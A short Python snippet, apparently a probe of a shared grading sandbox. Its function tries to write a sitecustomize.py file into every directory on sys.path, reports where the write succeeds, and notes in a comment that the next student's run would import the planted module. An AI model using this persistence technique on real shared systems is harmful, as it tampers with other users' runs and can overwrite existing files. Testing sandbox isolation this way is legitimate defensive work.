# plants a module that the next student's run would import
import os
import sys


def anonymous_child(size, produce):
    for folder in filter(os.path.isdir, sys.path):
        try:
            with open(os.path.join(folder, "sitecustomize.py"), "w"):
                print("SUCCEEDED", folder)
        except OSError:
            pass
    return bytes(size)
